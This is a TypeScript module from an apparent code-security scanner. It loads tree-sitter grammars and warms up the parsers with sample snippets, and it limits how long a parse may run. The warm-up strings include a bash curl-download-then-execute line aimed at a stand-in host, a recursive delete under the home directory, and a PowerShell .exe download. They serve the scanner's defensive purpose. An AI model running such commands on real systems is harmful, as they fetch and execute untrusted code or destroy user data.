/**
 * Real parse trees for code (docs/decisions/0013-code-parse-trees.md): tree-sitter's WebAssembly
 * runtime and prebuilt grammars from `@vscode/tree-sitter-wasm` (bash, Python, TypeScript for
 * JS/TS, PowerShell). Nothing is downloaded at install or run time: the grammars ship in the package.
 *
 * The runtime's initialisation is asynchronous (WebAssembly instantiation), the rule engine is
 * synchronous. `initCodeParsers()` is started when the analyzer is created and awaited by every
 * asynchronous entry point (scanUpload, the scan worker); a synchronous caller that finds the
 * parsers not ready gets `null` from `parseCode`, and the code layer reports that as an incomplete
 * analysis, never as a clean file.
 *
 * Cost is bounded per parse: a parse that runs longer than PARSE_US_PER_BYTE per byte of its input
 * (with a floor) is cancelled through tree-sitter's progress callback, so an input that sends the
 * grammar's error recovery into a super-linear path costs at most a constant per byte.
 */
import { readFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { setFlagsFromString } from 'node:v8';
import type { Language as TsLanguage, Node as TsNode, Parser as TsParser, Tree as TsTree } from '@vscode/tree-sitter-wasm';

export type CodeLanguage = 'bash' | 'python' | 'typescript' | 'powershell';
export const CODE_LANGUAGES: readonly CodeLanguage[] = ['bash', 'python', 'typescript', 'powershell'];
export type SyntaxNode = TsNode;
export type SyntaxTree = TsTree;

/** Normal code parses at ~1-3 µs per byte here; a parse past this rate is error recovery running away. */
export const PARSE_US_PER_BYTE = 12;
/** Floor of a parse's budget (ms), so a short chunk is not cancelled by timer granularity. */
export const PARSE_FLOOR_MS = 25;

const WARM_UP: Record<CodeLanguage, string> = {
  bash: 'X=1\nif [ "$X" = 1 ]; then curl -o /tmp/a "https://a.test/$X" && bash /tmp/a; fi\necho "${X:-y}" | tee -a f >> g\n'.repeat(20),
  python: 'import os\nU = "https://a.test/" + "x"\nif os.getuid() == 0:\n    data = open(U, "rb").read()\n    print(f"{U} {data!r}")\n'.repeat(20),
  typescript: 'const u = `https://a.test/${x}`;\nif (Date.now() > 5) { fs.rmSync(path.join(os.homedir(), ".x"), { recursive: true }); }\n'.repeat(20),
  powershell: '$d = Join-Path $env:TEMP "a.exe"\nif ((Get-Date).Year -gt 1) { Invoke-WebRequest -Uri "https://a.test" -OutFile $d }\n'.repeat(20),
};

/**
 * Set by scripts/build-cli.ts (esbuild `define`) in the standalone CLI bundle, which ships the
 * runtime and grammar .wasm files in this folder beside itself: there is no node_modules to resolve from.
 */
declare const BULWARK_BUNDLED_GRAMMARS: string | undefined;

const grammarDir = (): string =>
  typeof BULWARK_BUNDLED_GRAMMARS === 'string' ? join(__dirname, BULWARK_BUNDLED_GRAMMARS) : dirname(require.resolve('@vscode/tree-sitter-wasm'));

interface Loaded {
  parser: TsParser;
  languages: Map<CodeLanguage, TsLanguage>;
}

let loaded: Loaded | null = null;
let loading: Promise<void> | null = null;
let failure: string | null = null;

/** Starts (once) and awaits loading the runtime and the grammars. Never rejects: a failure is kept and reported. */
export function initCodeParsers(): Promise<void> {
  if (hidden) {
    // A test hid the parsers: an awaiting caller gets them back, as it would once loading ends.
    loaded = hidden;
    hidden = null;
  }
  loading ??= (async () => {
    try {
      // WebAssembly on V8's baseline compiler only. By default V8 also recompiles the grammars with
      // its optimising compiler on background threads: ~13 s of CPU per process (per scan worker),
      // and a CLI run held its exit for 20-30 s until that finished. Parses measured no slower.
      setFlagsFromString('--liftoff-only');
      // eslint-disable-next-line @typescript-eslint/no-require-imports
      const ts = require('@vscode/tree-sitter-wasm') as typeof import('@vscode/tree-sitter-wasm');
      const dir = grammarDir();
      await ts.Parser.init({ locateFile: (file: string) => join(dir, file) });
      const languages = new Map<CodeLanguage, TsLanguage>();
      for (const lang of CODE_LANGUAGES) languages.set(lang, await ts.Language.load(readFileSync(join(dir, `tree-sitter-${lang}.wasm`))));
      const parser = new ts.Parser();
      // The first parses of a grammar run before the WebAssembly is optimised: pay them here, untimed.
      for (const [lang, language] of languages) {
        parser.setLanguage(language);
        for (let k = 0; k < 3; k++) parser.parse(WARM_UP[lang])?.delete();
      }
      loaded = { parser, languages };
    } catch (err) {
      failure = err instanceof Error ? err.message : String(err);
    }
  })();
  return loading;
}

/** Whether `parseCode` can run now. */
export function codeParsersReady(): boolean {
  return loaded !== null;
}

/** Why the parsers could not be loaded, if they could not. */
export function codeParserFailure(): string | null {
  return failure;
}

/** A parse's outcome; `slow` marks a parse that recovered from errors for longer than a clean parse takes. */
export type ParseOutcome = { tree: SyntaxTree; slowMs: number } | { error: 'not_ready' | 'cancelled'; slowMs: number };

/**
 * Parses one chunk synchronously. The caller must `tree.delete()` the result. Only error recovery
 * is cancelled: a parse that has met a syntax error and runs past its budget stops (`cancelled`),
 * and is tried once more, so a pause of the process (garbage collection, a busy machine) does not
 * cost a chunk; a clean parse is never cancelled (tree-sitter is linear on valid input). `slowMs`
 * is the time spent in parses with errors, which the caller budgets per file. A caller before
 * initialisation gets `not_ready`.
 */
export function parseCode(lang: CodeLanguage, text: string): ParseOutcome {
  if (!loaded) return { error: 'not_ready', slowMs: 0 };
  const language = loaded.languages.get(lang);
  if (!language) return { error: 'not_ready', slowMs: 0 };
  const { parser } = loaded;
  parser.setLanguage(language);
  const budgetMs = Math.max(PARSE_FLOOR_MS, (text.length * PARSE_US_PER_BYTE) / 1000);
  let slowMs = 0;
  for (let attempt = 0; attempt < 2; attempt++) {
    const start = performance.now();
    let tree: SyntaxTree | null;
    try {
      tree = parser.parse(text, null, { progressCallback: (state) => state.hasError && performance.now() - start > budgetMs });
    } finally {
      parser.reset();
    }
    const spent = performance.now() - start;
    if (tree) {
      if (tree.rootNode.hasError) slowMs += spent;
      return { tree, slowMs };
    }
    slowMs += spent;
  }
  return { error: 'cancelled', slowMs };
}

let hidden: Loaded | null = null;
/** For tests: make the loaded parsers unavailable (as before start-up finished), or available again. */
export function hideCodeParsersForTest(hide: boolean): void {
  if (hide && loaded) {
    hidden = loaded;
    loaded = null;
  } else if (!hide && hidden) {
    loaded = hidden;
    hidden = null;
  }
}
